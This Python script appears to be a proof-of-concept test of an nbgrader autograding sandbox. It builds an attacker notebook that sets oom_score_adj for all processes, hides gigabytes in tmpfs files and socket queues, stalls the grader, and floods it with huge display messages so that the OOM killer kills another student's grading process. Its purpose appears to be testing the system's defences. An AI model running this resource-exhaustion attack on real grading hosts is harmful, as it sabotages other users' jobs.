"""a06: a host the admission itself deems big enough for one submission at a time (8 GiB: (8 - 1.5) // (6 + 0.5) = 1),
so no undersized host. mallory (1) writes 0 to every oom_score_adj of her sandbox (a03), (2) holds ~5 GiB in her
sandbox where no resident set shows it (tmpfs + socket queues, under her own 6-GiB cap), and (3) makes her own
nbgrader process (outside the sandbox, budgeted 0.5 GiB by admission, capped at 2 GiB of data) hold memory: her
partition_layers sleeps 25 s when the observer calls it, so the grading process waits for the report, and a thread
of her kernel publishes 100-MiB displays meanwhile, which ZeroMQ's I/O thread queues in the grader (rcvhwm 1000).
Early-started zoe is the first score-1000 process the OOM killer finds. argv: HOST_GIB SOCK_GIB"""
import sys, os, subprocess
from common import *
HOST_GIB = float(sys.argv[1]) if len(sys.argv) > 1 else 8
SOCK_GIB = float(sys.argv[2]) if len(sys.argv) > 2 else 3.5
PARENT = "/sys/fs/cgroup/memory" + [l.split(":")[2] for l in open("/proc/self/cgroup").read().split("\n") if ":memory:" in l][0]
HOST = PARENT + "/a51host6"
os.makedirs(HOST, exist_ok=True)
open(HOST + "/memory.limit_in_bytes", "w").write(str(int(HOST_GIB * 2**30)))
open(HOST + "/cgroup.procs", "w").write(str(os.getpid()))
print("grader runs in", HOST, "limit", HOST_GIB, "GiB")

RATCHET = r'''
import os, socket, time, sys
open("/proc/self/oom_score_adj", "w").write("0")
end = time.time() + float(sys.argv[1]); kind = sys.argv[2]; quota = int(sys.argv[3])
socks = []; buf = b"y" * 65536; held = 0
if kind == "file":
    for d in ("/dev/shm", "/tmp", "."):
        try:
            with open(d + "/fill.bin", "wb") as f:
                while f.tell() < 500 * 2**20:
                    f.write(buf * 16)
        except OSError:
            pass
while time.time() < end:
    if kind == "sock" and held < quota and len(socks) < 1200:
        try:
            a, b = socket.socketpair(); a.setblocking(False); socks += [a, b]
            try:
                while True:
                    held += a.send(buf)
            except OSError:
                pass
            continue
        except OSError:
            pass
    time.sleep(0.05)
'''
SETUP = f'''
import os, sys, time, subprocess, threading
if "ipykernel" in sys.modules and not globals().get("_mal_started"):
    _mal_started = True
    for _p in os.listdir("/proc"):
        if _p.isdigit():
            try:
                open(f"/proc/{{_p}}/oom_score_adj", "w").write("0")
            except OSError:
                pass
    _n = 24
    _rs = [subprocess.Popen([sys.executable, "-I", "-S", "-c", {RATCHET!r}, "240", "file", "0"])]
    _rs += [subprocess.Popen([sys.executable, "-I", "-S", "-c", {RATCHET!r}, "240", "sock", str(int({SOCK_GIB} * 2**30 / _n))]) for _ in range(_n)]
    def _flood():
        from IPython.display import publish_display_data
        big = "x" * (100 * 2**20)
        for i in range(18):
            publish_display_data({{"text/plain": big}})
            time.sleep(0.3)
    def _after(result):
        if "contiguous stages with the smallest" in (result.info.raw_cell or ""):
            threading.Timer(1.0, _flood).start()
    get_ipython().events.register("post_run_cell", _after)
'''
src = nbformat.read(f"{CLONE}/source/ps1_memory/ps1_memory.ipynb", as_version=4)
part = next(c for c in src.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "partition_layers")
from tools.submissions import solution_text
sol = solution_text(part)
slow = sol.replace("def partition_layers(costs, k):", "def partition_layers(costs, k):\n    import sys as _s, time as _t\n    if 'ipykernel' not in _s.modules:\n        _t.sleep(25)", 1)
nb = honest()
for cell in nb.cells:
    gid = cell.metadata.get("nbgrader", {}).get("grade_id")
    if gid == "partition_layers":
        cell.source = slow
    if gid == "training_memory":
        cell.source = cell.source + "\n" + SETUP
c = make_course("a06")
hand_in(c, "aaron", honest()); hand_in(c, "mallory", nb); hand_in(c, "zoe", honest()); hand_in(c, "zz_zoe2", honest())
grade(c, timeout=1500)
scores(c); times(c)
print("'host' max usage", int(open(HOST + "/memory.max_usage_in_bytes").read()) >> 20, "MiB")
print("--- kernel log (OOM kills) ---")
for l in subprocess.run(["dmesg"], capture_output=True, text=True).stdout.split("\n")[-400:]:
    if "Killed process" in l:
        print(l[:260])
